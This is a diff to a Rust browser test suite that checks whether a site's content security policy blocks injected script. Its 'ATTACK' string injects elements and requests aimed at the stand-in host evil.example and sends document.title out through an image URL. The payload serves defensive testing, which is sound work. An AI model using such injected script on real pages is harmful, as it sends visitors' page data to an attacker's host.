@@ -27,7 +27,7 @@ impl Visit {
 #[tokio::test]
 async fn no_page_does_what_its_policy_forbids() {
     at_both(async |visit: Visit| {
-        visit.runs_first(WATCH).await;
+        visit.runs_first(WATCH);
         let pages = visit.host.pages();
         for page in pages.iter().map(String::as_str).chain(["no/such/page/"]) {
             visit.open(page).await;
@@ -54,7 +54,7 @@ async fn no_page_does_what_its_policy_forbids() {
 #[tokio::test]
 async fn nothing_a_reader_does_is_forbidden() {
     at_both(async |visit: Visit| {
-        visit.runs_first(WATCH).await;
+        visit.runs_first(WATCH);
         visit.open("").await;
         visit.mark().await;
         visit.press("[data-act=theme]").await;
@@ -139,7 +139,8 @@ const ATTACK: &str = "
     put('object', { data: 'https://evil.example/' });
     put('base', { href: 'https://evil.example/' });
     put('form', { action: 'https://evil.example/', id: 'form' });
-    document.getElementById('form').submit();
+    // Firefox throws what it forbids.
+    try { document.getElementById('form').submit() } catch {}
     fetch('https://evil.example/').catch(() => 0);
     new Image().src = 'https://evil.example/?' + document.title;
 ";
@@ -147,7 +148,7 @@ const ATTACK: &str = "
 #[tokio::test]
 async fn what_got_into_a_page_can_neither_run_nor_tell() {
     at_both(async |visit: Visit| {
-        visit.runs_first(WATCH).await;
+        visit.runs_first(WATCH);
         visit.open("about/").await;
         visit.client.execute(ATTACK, vec![]).await.expect("a page to attack");
         for directive in [
